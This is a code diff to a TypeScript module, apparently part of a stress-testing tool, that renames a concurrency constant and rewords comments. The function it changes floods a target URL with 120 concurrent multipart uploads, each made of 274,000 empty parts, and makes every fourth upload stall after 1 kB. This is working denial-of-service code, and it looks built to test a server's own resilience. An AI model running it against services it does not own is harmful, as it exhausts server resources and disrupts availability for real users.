@@ -3,8 +3,8 @@ import { setTimeout as sleep } from 'node:timers/promises'
 import { flood } from './asking.ts'
 import type { Attack, AttackFindings } from './attack.ts'
 
-const AT_ONCE = 120
-/** The attacker's line: 1 Gbit/s, shared by all connections. */
+const CONCURRENCY = 120
+/** The attacker's bandwidth: 1 Gbit/s, shared by all connections. */
 const BYTES_PER_SECOND = 125e6
 const PIECE = 64 * 1024
 const PARTS = 274_000
@@ -13,21 +13,20 @@ const EMPTY_PARTS = Buffer.from(
   `${`--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n`.repeat(PARTS)}--${BOUNDARY}--\r\n`,
 )
 
-/** Sends all of it at the line's pace, as long as somebody takes it. */
 async function sendPaced(upload: ClientRequest) {
   for (let at = 0; at < EMPTY_PARTS.length && !upload.destroyed; at += PIECE) {
     upload.write(EMPTY_PARTS.subarray(at, at + PIECE))
-    await sleep((PIECE * AT_ONCE * 1000) / BYTES_PER_SECOND)
+    await sleep((PIECE * CONCURRENCY * 1000) / BYTES_PER_SECOND)
   }
   if (!upload.destroyed) upload.end()
 }
 
-/** Uploads that are nothing but empty parts, and in turn ones that begin and never end. */
+/** Three of four uploads consist of empty parts; the fourth stalls after 1 kB. */
 export async function attackUploads({ url, seconds, tokens }: Attack): Promise<AttackFindings> {
-  const agent = new Agent({ maxSockets: AT_ONCE })
+  const agent = new Agent({ maxSockets: CONCURRENCY })
   const until = Date.now() + seconds * 1000
   let sent = 0
-  const answers = await flood({ seconds, atOnce: AT_ONCE }, (n) => one(n))
+  const answers = await flood({ seconds, atOnce: CONCURRENCY }, (n) => one(n))
   agent.destroy()
   return { answers, counts: { 'megabytes taken': Math.round(sent / 1e6) } }
 
@@ -53,7 +52,7 @@ export async function attackUploads({ url, seconds, tokens }: Attack): Promise<A
         resolve(status === 0 ? 'no answer' : String(status))
       })
       if (n % 4 === 3)
-        upload.write(EMPTY_PARTS.subarray(0, 1024)) // and no more
+        upload.write(EMPTY_PARTS.subarray(0, 1024)) // the rest never follows
       else void sendPaced(upload)
     })
   }
